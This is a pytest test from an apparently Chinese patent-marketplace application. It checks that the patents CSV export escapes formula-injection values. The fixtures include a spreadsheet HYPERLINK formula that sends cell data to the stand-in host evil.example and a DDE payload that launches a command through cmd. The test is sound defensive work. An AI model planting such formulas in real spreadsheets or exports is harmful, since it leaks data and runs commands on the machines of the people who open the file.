"""The patents CSV export cannot carry a formula into a spreadsheet (titles and applicants come from imports and
from enterprises)."""

from __future__ import annotations

import csv
import io

import pytest

from market.accounts.models import OrgKind, Role
from market.db import db
from market.ip.indexing import get_backend, reindex
from market.ip.models import IpAsset, IpKind, LegalStatus, PledgeState
from tests.conftest import DATABASES, NOW, PG_URL, Factory, login

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'


@pytest.mark.parametrize("database", DATABASES)
def test_patents_csv_neutralises_formulas(make_app, database):
    app = make_app(**({"url": PG_URL} if database == "postgresql" else {}))
    with app.app_context():
        f = Factory(db.session)
        owner = f.org(OrgKind.ENTERPRISE)
        db.session.add(IpAsset(kind=IpKind.INVENTION, application_number="201610000001X", title=HOSTILE,
                               applicants="@SUM(1+1)*cmd|' /C calc'!A0", inventors="-2+3", ipc_codes=["H01M10/0562"],
                               owner_org_id=owner.id, legal_status=LegalStatus.GRANTED, pledge_state=PledgeState.FREE,
                               created_at=NOW, updated_at=NOW))
        db.session.commit()
        reindex(db.session, get_backend())
        db.session.commit()
        bank = f.user(Role.BANK)
        client = app.test_client()
        login(client, bank)
    text = client.get("/patents/export.csv").get_data().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1
    assert rows[0]["title"] == "'" + HOSTILE
    assert rows[0]["applicants"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
